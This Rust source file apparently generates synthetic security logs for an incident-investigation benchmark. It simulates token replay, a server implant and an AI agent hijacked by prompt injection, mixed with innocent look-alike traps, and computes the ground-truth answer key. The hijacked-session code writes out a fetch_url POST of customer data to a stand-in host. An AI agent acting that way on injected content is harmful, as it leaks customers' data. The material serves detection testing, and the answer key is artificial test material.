//! The breaches beside the password spray, and the innocent look-alikes every story carries.
//!
//! - **token**: a refresh token taken from a remote worker's laptop is replayed from new addresses
//!   in the worker's own country, in their working hours, through their usual tools: only
//!   non-interactive sign-ins, but far more customers an hour than the worker ever touches.
//! - **agent**: an AI agent (a service principal, Entra Agent ID) works around the clock from one
//!   cloud address; in some sessions injected content makes it read customers wide and post them
//!   to an outside host through its ordinary `fetch_url` tool.
//! - **implant**: code planted in the MCP server (after an SSH login from outside) copies every
//!   tool result to a new address over raw TLS, with an hourly beacon; no identity is misused.
//! - **mixed**: all of them, with the password spray.
//!
//! Traps in every story: colleagues mistyping passwords at the office over weeks, a traveller
//! who signs in interactively from a hotel and works as usual, an analyst's quarter-end export
//! from the office, staff and the agent fetching the knowledge base, a new geocoding service
//! the server starts calling (with its own dependency records) inside the window, and, days
//! before the breach, a colleague on the address a token is later replayed from and a partner
//! service on the address an implant later copies to.
//! These draw from `story_rng`, so the password story's own draws are not shifted.

use chrono::{DateTime, Duration, Utc};
use serde::Serialize;
use serde_json::{Value, json};

use super::{
    Call, DayContext, MCP_HOST_IP, MCP_MAC, OFFICE_IP, Pattern, Scenario, TruthDestination,
    TruthUser, User, ts,
};

/// Which breach a generated incident holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, clap::ValueEnum)]
#[serde(rename_all = "snake_case")]
pub enum Story {
    /// A password spray, then night-time pulls from abroad and a stolen API Management key.
    Password,
    /// A refresh token replayed in-country during office hours.
    Token,
    /// A hijacked AI agent (prompt injection) pushing data out through an ordinary tool.
    Agent,
    /// An implant in the MCP server copying results out; no identity misused.
    Implant,
    /// All four in one tenant.
    Mixed,
}

impl Story {
    /// Whether this story includes `part`.
    pub fn has(self, part: Story) -> bool {
        self == part || self == Story::Mixed
    }
}

/// The remote worker whose token is replayed (index 3 works from home, in GB).
const TOKEN_VICTIM: usize = 3;
/// Residential and cloud addresses in the victim's country the token is replayed from.
const TOKEN_IPS: [&str; 2] = ["81.2.69.142", "51.145.122.7"];
/// The traveller (interactive sign-in from a hotel inside the country) and the hotel's address.
const TRAVELLER: usize = 5;
const HOTEL_IP: &str = "89.101.55.12";
/// The analyst who runs the large quarter-end export from the office.
const ANALYST: usize = 6;
/// The agent's service principal, its cloud address and its knowledge base.
pub(super) const AGENT_NAME: &str = "crm-triage-agent";
const AGENT_APP_ID: &str = "b7e2c0d4-1f3a-4c5e-9d8b-6a7f0e1d2c3b";
/// The app id of the agent's blueprint (its parent application in Entra Agent ID).
const AGENT_BLUEPRINT_APP_ID: &str = "5e1d9c3a-7b2f-4e60-8a41-d0c9b8a7f6e5";
const AGENT_IP: &str = "20.61.15.9";
const KB_HOST: &str = "kb.contoso.com";
const KB_IP: &str = "203.0.113.80";
/// Where the hijacked agent posts customers.
const HIJACK_HOST: &str = "hooks.relay-sync.example";
const HIJACK_IP: &str = "45.137.21.9";
/// A geocoding service the server starts using inside the window (benign, with dependencies).
const GEO_HOST: &str = "api.geo-lookup.example";
const GEO_IP: &str = "198.18.7.25";
/// The implant: who logged in over SSH, and where results are copied.
const SSH_IP: &str = "103.75.190.12";
const IMPLANT_IP: &str = "185.243.115.84";
/// Traps for the widening window, nine to eleven days before the attack (a quiet spell longer
/// than the window's three days from the breach): a colleague works a day from a cloud desktop
/// whose address the token is later replayed from (a shared cloud range, reassigned), and the
/// server syncs with a partner's API on the address the implant later copies to (a cloud address
/// that changed hands). Neither is the breach; both are in some guesses' baselines.
const CLOUD_DESKTOP_DAYS_BEFORE: u32 = 9;
const PARTNER_DAYS_BEFORE: [u32; 3] = [11, 10, 9];
const PARTNER_HOST: &str = "sync.partner-ledger.example";

impl Scenario {
    fn agent_id(&self) -> String {
        super::Rng(self.seed ^ 0x6167_656e_7469_6400).uuid()
    }

    /// The implant's start: 02:13 UTC on the attack day.
    fn implant_start(&self) -> DateTime<Utc> {
        self.day_start(self.attack_day) + Duration::minutes(133)
    }

    /// The customers the agent works on (every fourth colleague's book, from the third).
    fn agent_customers(&self) -> Vec<String> {
        self.users
            .iter()
            .enumerate()
            .filter(|(i, _)| i % 4 == 2)
            .flat_map(|(_, u)| u.customers.clone())
            .collect()
    }

    /// The colleague who works a day from a cloud desktop (see [`CLOUD_DESKTOP_DAYS_BEFORE`]),
    /// when the attack begins late enough for the trap to lie before it.
    pub(super) fn cloud_desktop_user(&self) -> Option<usize> {
        if self.attack_day < 12 {
            return None;
        }
        (ANALYST + 1..self.users.len().saturating_sub(1))
            .find(|i| self.users[*i].pattern == Pattern::Office && !self.victims.contains(i))
    }

    /// The abused identities the evidence can show (`hijack_seen`: a hijacked session kept both
    /// its wide search and its post).
    pub(super) fn compromised_truth(&self, hijack_seen: bool) -> Vec<TruthUser> {
        let mut all = self.compromised_all();
        if !hijack_seen {
            all.retain(|u| u.upn != AGENT_NAME);
        }
        all
    }

    /// The abused identities the evidence cannot show.
    pub(super) fn compromised_unseen_truth(&self, hijack_seen: bool) -> Vec<TruthUser> {
        let mut all = self.compromised_all();
        all.retain(|u| !hijack_seen && u.upn == AGENT_NAME);
        all
    }

    fn compromised_all(&self) -> Vec<TruthUser> {
        let mut out = Vec::new();
        let note = |u: &User, note: &str| TruthUser {
            upn: u.upn.clone(),
            object_id: u.object_id.clone(),
            note: note.into(),
        };
        if self.story.has(Story::Password) {
            out.extend(self.victims.iter().map(|v| {
                note(
                    &self.users[*v],
                    "password spray success, then night-time pulls from new IPs",
                )
            }));
        }
        if self.story.has(Story::Token) {
            out.push(note(
                &self.users[TOKEN_VICTIM],
                "refresh token replayed in-country in office hours (non-interactive sign-ins only)",
            ));
        }
        if self.story.has(Story::Agent) {
            out.push(TruthUser {
                upn: AGENT_NAME.into(),
                object_id: self.agent_id(),
                note: "AI agent hijacked by prompt injection in some sessions (service principal)"
                    .into(),
            });
        }
        out
    }

    pub(super) fn innocent_truth(&self) -> Vec<TruthUser> {
        let note = |u: &User, note: &str| TruthUser {
            upn: u.upn.clone(),
            object_id: u.object_id.clone(),
            note: note.into(),
        };
        let mut out = vec![
            note(
                &self.users[2],
                "night-shift worker: works 22:00-06:00 UTC every day",
            ),
            note(
                &self.users[self.users.len() - 1],
                "new employee who starts inside the window, from the office network",
            ),
            note(
                &self.users[TRAVELLER],
                "travels inside the country: signs in interactively from a hotel and works as usual",
            ),
            note(
                &self.users[ANALYST],
                "runs a large quarter-end export from the office",
            ),
        ];
        out.extend(
            self.users
                .iter()
                .enumerate()
                .filter(|(i, u)| {
                    u.ip == OFFICE_IP
                        && !self.victims.contains(i)
                        && !matches!(u.pattern, Pattern::StartsOn(_))
                        && ![TRAVELLER, ANALYST].contains(i)
                })
                .take(3)
                .map(|(_, u)| {
                    note(
                        u,
                        "mistypes a password at the office now and then (the office address collects such failures)",
                    )
                }),
        );
        if let Some(index) = self.cloud_desktop_user() {
            out.push(note(
                &self.users[index],
                "worked a day from a cloud desktop, days before the breach, on the address a replayed token later uses",
            ));
        }
        out
    }

    pub(super) fn attacker_ips_truth(&self) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        if self.story.has(Story::Password) {
            out.push(super::SPRAY_IP.into());
            out.extend(super::NIGHT_IPS.iter().map(|s| (*s).to_string()));
        }
        if self.story.has(Story::Token) {
            out.extend(TOKEN_IPS.iter().map(|s| (*s).to_string()));
        }
        if self.story.has(Story::Implant) {
            out.push(SSH_IP.into());
        }
        out
    }

    /// Where the data went, as the evidence can show it: the hijacked agent's destination only
    /// when at least one hijacked session kept both its wide search and its post (`hijack_seen`);
    /// sampling may drop one of them in every session, and `scope` then does not attribute it.
    pub(super) fn exfiltration_truth(&self, hijack_seen: bool) -> Vec<TruthDestination> {
        let dest = |ip: &str, host: &str, note: &str| TruthDestination {
            ip: ip.into(),
            host: host.into(),
            note: note.into(),
        };
        let mut out = Vec::new();
        if self.story.has(Story::Password) {
            out.push(dest(
                super::EXFIL_IP,
                super::EXFIL_HOST,
                "exports uploaded by the server on the attacker's request",
            ));
            for ip in super::NIGHT_IPS {
                out.push(dest(ip, "", "tool responses to the attacker"));
            }
        }
        if self.story.has(Story::Token) {
            for ip in TOKEN_IPS {
                out.push(dest(ip, "", "tool responses to the token replayer"));
            }
        }
        if self.story.has(Story::Agent) && hijack_seen {
            out.push(dest(
                HIJACK_IP,
                HIJACK_HOST,
                "customers posted by the hijacked agent through fetch_url",
            ));
        }
        if self.story.has(Story::Implant) {
            out.push(dest(
                IMPLANT_IP,
                "",
                "tool results copied out by the implant (raw TLS, no dependency record)",
            ));
        }
        out
    }
}

impl DayContext<'_> {
    /// The traps of every story, and the token, agent and implant stories.
    pub(super) fn traps_and_stories(&mut self, day: u32, midnight: DateTime<Utc>, weekday: bool) {
        let scenario = self.scenario;
        if weekday {
            self.office_typos(midnight);
        }
        self.knowledge_base_reads(midnight, weekday);
        if day > scenario.attack_day && weekday && day.is_multiple_of(3) {
            self.travel_day(midnight);
        }
        if day == scenario.attack_day + 2 {
            self.quarter_end_export(midnight);
        }
        if scenario.story.has(Story::Agent) {
            self.agent_day(day, midnight);
        }
        if scenario.story.has(Story::Token) && day >= scenario.attack_day && weekday {
            self.token_replay(day, midnight);
        }
        if scenario.story.has(Story::Implant) {
            self.implant_day(day, midnight);
        }
        if day + CLOUD_DESKTOP_DAYS_BEFORE == scenario.attack_day {
            self.cloud_desktop_day(midnight);
        }
        if scenario.attack_day >= 12
            && PARTNER_DAYS_BEFORE
                .iter()
                .any(|before| day + before == scenario.attack_day)
        {
            self.partner_sync(midnight);
        }
    }

    /// A colleague signs in interactively from a cloud desktop on the address the token will be
    /// replayed from, and works on their own customers as usual.
    fn cloud_desktop_day(&mut self, midnight: DateTime<Utc>) {
        let Some(index) = self.scenario.cloud_desktop_user() else {
            return;
        };
        let user = self.scenario.users[index].clone();
        let address = TOKEN_IPS[1];
        let start = midnight + Duration::hours(9 - user.utc_offset) + Duration::minutes(12);
        self.sign_in(&user, start, address, "0", true);
        let session = self.story_rng.uuid();
        let mut t = start + Duration::minutes(3);
        for _ in 0..self.story_rng.range(4, 8) {
            t += Duration::seconds(self.story_rng.range(300, 2_400));
            let call = self.legit_story_call(&user);
            self.story_call(&user, address, &session, t, &call, false);
        }
    }

    /// The server syncs with a partner's API every working hour, with dependency records, on the
    /// address the implant later copies to.
    fn partner_sync(&mut self, midnight: DateTime<Utc>) {
        for hour in 8..18 {
            let at = midnight
                + Duration::hours(hour)
                + Duration::seconds(self.story_rng.range(0, 3_000));
            let trace = self.story_rng.hex(32);
            let span = self.story_rng.hex(16);
            std::mem::swap(&mut self.rng, &mut self.story_rng);
            self.dependency(
                at,
                &trace,
                &span,
                "HTTP",
                PARTNER_HOST,
                "POST /v1/ledger/sync",
                &format!("https://{PARTNER_HOST}/v1/ledger/sync"),
                Some(IMPLANT_IP),
                6_000,
            );
            self.flow(
                MCP_MAC,
                at,
                MCP_HOST_IP,
                IMPLANT_IP,
                (40_000, 60_000),
                443,
                'O',
                6_000,
                1_800,
            );
            std::mem::swap(&mut self.rng, &mut self.story_rng);
        }
    }

    /// One or two office workers mistype their password and get in a minute later.
    fn office_typos(&mut self, midnight: DateTime<Utc>) {
        let office: Vec<User> = self
            .scenario
            .users
            .iter()
            .filter(|u| u.ip == OFFICE_IP && u.pattern == Pattern::Office)
            .cloned()
            .collect();
        let typos = self.story_rng.below(3);
        for _ in 0..typos {
            let user = self.story_rng.pick(&office).clone();
            let at = midnight
                + Duration::hours(8 - user.utc_offset)
                + Duration::seconds(self.story_rng.range(0, 8 * 3600));
            self.sign_in(&user, at, OFFICE_IP, "50126", true);
            let retry = at + Duration::seconds(self.story_rng.range(20, 120));
            self.sign_in(&user, retry, OFFICE_IP, "0", true);
        }
    }

    /// Staff read knowledge-base articles through `fetch_url` (the tool the agent also has).
    fn knowledge_base_reads(&mut self, midnight: DateTime<Utc>, weekday: bool) {
        if !weekday {
            return;
        }
        for _ in 0..self.story_rng.range(1, 4) {
            let user = self.story_rng.pick(&self.scenario.users).clone();
            if user.pattern != Pattern::Office {
                continue;
            }
            let t = midnight
                + Duration::hours(10 - user.utc_offset)
                + Duration::seconds(self.story_rng.range(0, 5 * 3600));
            let call = kb_call(self.story_rng.range(100, 999));
            let session = self.story_rng.uuid();
            self.story_call(&user, &user.ip.clone(), &session, t, &call, false);
        }
    }

    /// The traveller signs in interactively from a hotel and works on their own customers.
    fn travel_day(&mut self, midnight: DateTime<Utc>) {
        let user = self.scenario.users[TRAVELLER].clone();
        let start = midnight + Duration::hours(8 - user.utc_offset) + Duration::minutes(40);
        self.sign_in(&user, start, HOTEL_IP, "0", true);
        let session = self.story_rng.uuid();
        let mut t = start + Duration::minutes(5);
        for _ in 0..self.story_rng.range(3, 7) {
            t += Duration::seconds(self.story_rng.range(300, 3_000));
            let call = self.legit_story_call(&user);
            self.story_call(&user, HOTEL_IP, &session, t, &call, false);
        }
    }

    /// The analyst exports a large set of customers from the office, once, for the quarter end.
    fn quarter_end_export(&mut self, midnight: DateTime<Utc>) {
        let user = self.scenario.users[ANALYST].clone();
        let t = midnight + Duration::hours(14 - user.utc_offset);
        let ids: Vec<String> = self
            .scenario
            .users
            .iter()
            .flat_map(|u| u.customers.iter().take(4).cloned())
            .collect();
        let call = Call {
            tool: "export_customer_data",
            arguments: json!({"customer_ids": ids, "format": "xlsx", "limit": 5000, "reason": "Q3 close"}),
            customers: ids,
            response_bytes: 2_400_000,
            upload: None,
        };
        let session = self.story_rng.uuid();
        self.story_call(&user, OFFICE_IP, &session, t, &call, false);
    }

    /// A usual call of a user, drawn from `story_rng`.
    fn legit_story_call(&mut self, user: &User) -> Call {
        let customer = self.story_rng.pick(&user.customers).clone();
        if self.story_rng.chance(0.5) {
            Call {
                tool: "get_customer",
                arguments: json!({"customer_id": customer}),
                customers: vec![customer],
                response_bytes: self.story_rng.range(1_800, 6_000),
                upload: None,
            }
        } else {
            Call {
                tool: "list_orders",
                arguments: json!({"customerId": customer, "since": "2026-01-01"}),
                customers: vec![customer],
                response_bytes: self.story_rng.range(3_000, 14_000),
                upload: None,
            }
        }
    }

    /// A tool call drawn from `story_rng`: the same rows as [`DayContext::tool_call`], which
    /// draws from `rng`, so this swaps the two around it.
    fn story_call(
        &mut self,
        user: &User,
        ip: &str,
        session: &str,
        t: DateTime<Utc>,
        call: &Call,
        attacker: bool,
    ) {
        std::mem::swap(&mut self.rng, &mut self.story_rng);
        self.tool_call(user, ip, session, t, call, attacker);
        std::mem::swap(&mut self.rng, &mut self.story_rng);
    }

    /// The replayed token: one or two bursts a weekday in the victim's hours, non-interactive
    /// sign-ins only, other teams' customers read many at a time.
    fn token_replay(&mut self, day: u32, midnight: DateTime<Utc>) {
        let victim = self.scenario.users[TOKEN_VICTIM].clone();
        let targets = self.scenario.targets();
        for burst in 0..self.story_rng.range(1, 3) {
            let ip = TOKEN_IPS[(day as usize + burst as usize) % 2];
            let start = midnight
                + Duration::hours(9 - victim.utc_offset + 3 * burst)
                + Duration::minutes(self.story_rng.range(0, 90));
            std::mem::swap(&mut self.rng, &mut self.story_rng);
            self.sign_in(&victim, start, ip, "0", false);
            std::mem::swap(&mut self.rng, &mut self.story_rng);
            let session = self.story_rng.uuid();
            let mut t = start + Duration::seconds(self.story_rng.range(5, 40));
            for _ in 0..self.story_rng.range(12, 25) {
                t += Duration::seconds(self.story_rng.range(20, 150));
                let customer = self.story_rng.pick(&targets).clone();
                let call = if self.story_rng.chance(0.2) {
                    let matched: Vec<String> = (0..self.story_rng.range(5, 12))
                        .map(|_| self.story_rng.pick(&targets).clone())
                        .collect();
                    let bytes = 1_500 * matched.len() as i64;
                    Call {
                        tool: "search_customers",
                        arguments: json!({"query": format!("{} gmbh", &customer[2..5])}),
                        customers: matched,
                        response_bytes: bytes,
                        upload: None,
                    }
                } else {
                    Call {
                        tool: if self.story_rng.chance(0.6) {
                            "get_customer"
                        } else {
                            "get_invoice"
                        },
                        arguments: json!({"customer_id": customer}),
                        customers: vec![customer],
                        response_bytes: self.story_rng.range(4_000, 9_000),
                        upload: None,
                    }
                };
                self.story_call(&victim, ip, &session, t, &call, true);
            }
        }
    }

    /// The agent's day: a short task session every hour from its own address, its hourly
    /// service-principal sign-in, and from the attack day on, every other day, one hijacked session.
    fn agent_day(&mut self, day: u32, midnight: DateTime<Utc>) {
        let scenario = self.scenario;
        let agent = User {
            upn: AGENT_NAME.into(),
            object_id: scenario.agent_id(),
            display: AGENT_NAME.into(),
            ip: AGENT_IP.into(),
            country: "NL",
            city: "Amsterdam",
            asn: 8075,
            utc_offset: 0,
            pattern: Pattern::NightShift,
            customers: scenario.agent_customers(),
            agent: "crm-triage-agent/2.4 (semantic-kernel)",
        };
        let hijack_hour = (day >= scenario.attack_day
            && (day - scenario.attack_day).is_multiple_of(2))
        .then(|| self.story_rng.range(0, 24));
        for hour in 0..24 {
            let hour_start = midnight + Duration::hours(hour);
            let sign_in = hour_start + Duration::seconds(self.story_rng.range(0, 120));
            self.service_principal_sign_in(&agent, sign_in);
            let session = self.story_rng.uuid();
            let mut t = hour_start + Duration::seconds(self.story_rng.range(150, 1_200));
            for _ in 0..self.story_rng.range(2, 5) {
                t += Duration::seconds(self.story_rng.range(5, 60));
                let call = if self.story_rng.chance(0.25) {
                    kb_call(self.story_rng.range(100, 999))
                } else {
                    self.legit_story_call(&agent)
                };
                self.story_call(&agent, AGENT_IP, &session, t, &call, false);
            }
            if hijack_hour == Some(hour) {
                self.hijacked_session(&agent, t + Duration::minutes(7));
            }
        }
    }

    /// Injected content steers the agent: a wide search, a few reads, and the results posted
    /// to an outside host through `fetch_url`.
    fn hijacked_session(&mut self, agent: &User, start: DateTime<Utc>) {
        // The session's customers are the attacker's in the evidence only when the session is
        // attributable there: otherwise its reads are the agent's ordinary-looking work.
        let touched_before = self.touched.clone();
        let targets = self.scenario.targets();
        let session = self.story_rng.uuid();
        let matched: Vec<String> = (0..self.story_rng.range(25, 45))
            .map(|_| self.story_rng.pick(&targets).clone())
            .collect();
        let mut t = start;
        let bytes = 1_500 * matched.len() as i64;
        let search = Call {
            tool: "search_customers",
            arguments: json!({"query": "*", "limit": 5000}),
            customers: matched.clone(),
            response_bytes: bytes,
            upload: None,
        };
        self.story_call(agent, AGENT_IP, &session, t, &search, true);
        let search_seen = self.last_call_seen && !self.last_call_cut;
        for customer in matched.iter().take(3) {
            t += Duration::seconds(self.story_rng.range(3, 20));
            let read = Call {
                tool: "get_customer",
                arguments: json!({"customer_id": customer}),
                customers: vec![customer.clone()],
                response_bytes: self.story_rng.range(4_000, 9_000),
                upload: None,
            };
            self.story_call(agent, AGENT_IP, &session, t, &read, true);
        }
        t += Duration::seconds(self.story_rng.range(5, 30));
        let upload = 3_000 * matched.len() as i64;
        let post = Call {
            tool: "fetch_url",
            arguments: json!({"url": format!("https://{HIJACK_HOST}/v1/sync?batch={}", self.story_rng.hex(8)), "method": "POST", "body": "(search results)"}),
            customers: Vec::new(),
            response_bytes: 300,
            upload: Some(upload),
        };
        // The session's customers are what the post carried out (named in the evidence unless
        // the search fell into the export outage).
        if !self.in_outage("AppRequests", start) && search_seen {
            self.touched.extend(matched);
        }
        self.story_call(agent, AGENT_IP, &session, t, &post, true);
        // Attributable from the evidence only with its wide search and its post both kept: the
        // post alone is one sign (a new outside host), which an innocent new service also gives.
        if search_seen
            && self.last_call_seen
            && !self.last_call_cut
            && !self.in_outage("AppRequests", t)
        {
            self.hijack_posts_seen += 1;
        }
        // Kept apart: they are the attacker's in the evidence when its post is kept and some
        // hijacked session is attributable whole (the same campaign), which only the whole
        // evidence tells (`truth`).
        let added: Vec<String> = self.touched.difference(&touched_before).cloned().collect();
        self.touched = touched_before;
        if self.last_call_seen && !self.last_call_cut && !self.in_outage("AppRequests", t) {
            self.agent_touched.extend(added);
        }
    }

    /// An Entra service-principal sign-in of the agent (AADServicePrincipalSignInLogs), with the
    /// Entra Agent ID fields.
    fn service_principal_sign_in(&mut self, agent: &User, t: DateTime<Utc>) {
        let row = json!({
            "TenantId": self.scenario.workspace_id, "SourceSystem": "Azure AD", "TimeGenerated": ts(t),
            "OperationName": "Sign-in activity", "Category": "ServicePrincipalSignInLogs", "ResultType": "0",
            "ResultSignature": "SUCCESS", "ResultDescription": "", "CorrelationId": self.story_rng.uuid(),
            "Id": self.story_rng.uuid(), "AppId": AGENT_APP_ID, "ServicePrincipalId": agent.object_id,
            "ServicePrincipalName": agent.upn, "IPAddress": agent.ip, "Location": agent.country,
            "LocationDetails": {"city": agent.city, "state": "", "countryOrRegion": agent.country},
            "ResourceDisplayName": "mcp-crm-api", "ResourceIdentity": "7a1c9e55-2b4d-4c6e-8f10-2a3b4c5d6e7f",
            "ServicePrincipalCredentialKeyId": "", "ClientCredentialType": "federatedIdentityCredential",
            // Microsoft Graph's agentSignIn values: an agent identity (an instance of its
            // blueprint) requesting its own token.
            "Agent": {"agentType": "agenticAppInstance", "agentSubjectType": "agenticAppInstance",
                "agentSubjectParentId": "c0ffee00-0000-4000-8000-00000000a9e7", "parentAppId": AGENT_BLUEPRINT_APP_ID},
            "Type": "AADServicePrincipalSignInLogs",
        });
        self.emit("AADServicePrincipalSignInLogs", t, row);
    }

    /// The implant: an SSH login from outside on the attack day, then a copy of every tool
    /// result to its address within a minute and a beacon every hour.
    fn implant_day(&mut self, day: u32, midnight: DateTime<Utc>) {
        let scenario = self.scenario;
        if day < scenario.attack_day {
            return;
        }
        if day == scenario.attack_day {
            let login = scenario.implant_start() - Duration::minutes(6);
            std::mem::swap(&mut self.rng, &mut self.story_rng);
            self.flow(
                MCP_MAC,
                login,
                SSH_IP,
                MCP_HOST_IP,
                (40_000, 60_000),
                22,
                'I',
                48_000,
                210_000,
            );
            std::mem::swap(&mut self.rng, &mut self.story_rng);
        }
        for hour in 0..24 {
            let t =
                midnight + Duration::hours(hour) + Duration::seconds(self.story_rng.range(0, 60));
            if t >= scenario.implant_start() {
                if self.first_implant_copy.is_none_or(|first| t < first) {
                    self.first_implant_copy = Some(t);
                }
                std::mem::swap(&mut self.rng, &mut self.story_rng);
                self.flow(
                    MCP_MAC,
                    t,
                    MCP_HOST_IP,
                    IMPLANT_IP,
                    (40_000, 60_000),
                    443,
                    'O',
                    420,
                    310,
                );
                std::mem::swap(&mut self.rng, &mut self.story_rng);
            }
        }
    }

    /// While the implant runs, every answered call's result is copied out within a minute.
    pub(super) fn implant_copy(&mut self, t: DateTime<Utc>, call: &Call) {
        let scenario = self.scenario;
        if !scenario.story.has(Story::Implant) || t < scenario.implant_start() {
            return;
        }
        if !self.in_outage("AppRequests", t) && self.last_call_seen && !self.last_call_cut {
            self.exposed.extend(call.customers.iter().cloned());
        }
        let copy = t + Duration::seconds(self.story_rng.range(20, 60));
        if self.first_implant_copy.is_none_or(|first| copy < first) {
            self.first_implant_copy = Some(copy);
        }
        let bytes = call.response_bytes * 13 / 10 + 2_000;
        std::mem::swap(&mut self.rng, &mut self.story_rng);
        self.flow(
            MCP_MAC,
            copy,
            MCP_HOST_IP,
            IMPLANT_IP,
            (40_000, 60_000),
            443,
            'O',
            bytes,
            600,
        );
        std::mem::swap(&mut self.rng, &mut self.story_rng);
    }

    /// From two days after the attack starts, the server geocodes some customers through a new
    /// service, with dependency records: a new destination that is not exfiltration.
    pub(super) fn geocode(&mut self, t: DateTime<Utc>, trace: &str, span: &str) {
        let scenario = self.scenario;
        if t < scenario.day_start(scenario.attack_day + 2) || !self.story_rng.chance(0.3) {
            return;
        }
        let at = t + Duration::milliseconds(self.story_rng.range(40, 300));
        std::mem::swap(&mut self.rng, &mut self.story_rng);
        self.dependency(
            at,
            trace,
            span,
            "HTTP",
            GEO_HOST,
            "GET /v2/geocode",
            &format!("https://{GEO_HOST}/v2/geocode?q=berlin"),
            Some(GEO_IP),
            0,
        );
        self.flow(
            MCP_MAC,
            at,
            MCP_HOST_IP,
            GEO_IP,
            (40_000, 60_000),
            443,
            'O',
            1_100,
            2_600,
        );
        std::mem::swap(&mut self.rng, &mut self.story_rng);
    }
}

/// A knowledge-base read through `fetch_url`.
fn kb_call(article: i64) -> Call {
    Call {
        tool: "fetch_url",
        arguments: json!({"url": format!("https://{KB_HOST}/articles/KB{article}")}),
        customers: Vec::new(),
        response_bytes: 7_000,
        upload: Some(0),
    }
}

/// The host a `fetch_url` call's dependency goes to, and its address.
pub(super) fn fetch_target(arguments: &Value) -> (&'static str, &'static str) {
    let url = arguments
        .get("url")
        .and_then(Value::as_str)
        .unwrap_or_default();
    if url.contains(HIJACK_HOST) {
        (HIJACK_HOST, HIJACK_IP)
    } else {
        (KB_HOST, KB_IP)
    }
}
